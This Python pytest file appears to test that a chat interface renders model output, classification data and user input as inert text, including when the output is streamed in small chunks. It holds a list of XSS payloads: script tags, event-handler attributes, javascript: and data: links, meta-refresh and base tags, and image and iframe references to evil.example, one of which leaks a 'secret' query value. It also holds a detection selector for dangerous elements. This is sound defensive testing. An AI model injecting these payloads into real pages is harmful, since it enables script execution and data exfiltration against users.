"""Whatever a model writes stays text: no script runs, nobody else is asked, wherever its chunks are cut."""

from __future__ import annotations

import pytest

from tests.browser.desk import Desk
from tests.process.stack import directive

PAYLOADS = """\
<script>alert(1)</script>

<img src=x onerror=alert(1)> <svg onload=alert(1)> <body onload=alert(1)>

![x](https://evil.example/?q=secret) ![y][pic] [![z](https://evil.example/z.png)](https://evil.example)

[pic]: https://evil.example/reference.png

[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <https://evil.example/auto>

<iframe src="https://evil.example"></iframe><link rel=stylesheet href=https://evil.example/x.css>

<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">

</div></template></main><script>alert(1)</script>

<form action="https://evil.example"><button autofocus>x</button></form>

<a href="#" onclick="alert(1)" style="position:fixed;inset:0">x</a>

| a |
|---|
| <img src=https://evil.example/t.png> |

```html
</code></pre><script>alert(1)</script>
```
"""


@pytest.mark.parametrize("chunk_chars", [1, 7, 4096])
def test_markup_is_harmless(desk: Desk, chunk_chars: int) -> None:
    desk.send(directive(text=PAYLOADS, chunk_chars=chunk_chars, chunk_delay_s=0.004))
    desk.wait_for_end()
    assert desk.raw() == PAYLOADS
    dangerous = "script, img, svg, iframe, link, meta, base, form, style, [onclick], [style], [src], a:not([rel])"
    assert desk.page.locator("#answer").locator(dangerous).count() == 0
    assert desk.page.locator("#answer a").evaluate_all("links => links.map(link => link.protocol)") == ["https:"] * 2
    desk.page.reload()
    assert desk.raw() == PAYLOADS


def test_markup_in_data_is_harmless(desk: Desk) -> None:
    text = '{"category": "<img src=x onerror=alert(1)>", "urgency": "<script>alert(1)</script>"}'
    desk.stack.script(queue=[{"text": text}])  # for the second question, which repeats nothing of the first
    request_id = desk.send(directive(text=text), prompt="ticket_classify")
    desk.wait_for_end()
    assert desk.row(request_id)["error"]["code"] == "output_invalid"  # not one of the categories
    assert "onerror" in desk.page.inner_text("#answer")
    assert desk.page.locator("#answer").locator("img, script").count() == 0


def test_markup_that_was_sent_is_harmless(desk: Desk) -> None:
    desk.send(f"</dd><script>alert(1)</script><img src=x onerror=alert(1)> {directive(text='Fine.')}")
    desk.wait_for_end()
    desk.page.get_by_text("What you sent").click()
    desk.page.goto(f"{desk.stack.base_url}/")
    assert "<script>alert(1)" in desk.page.inner_text("#recent")
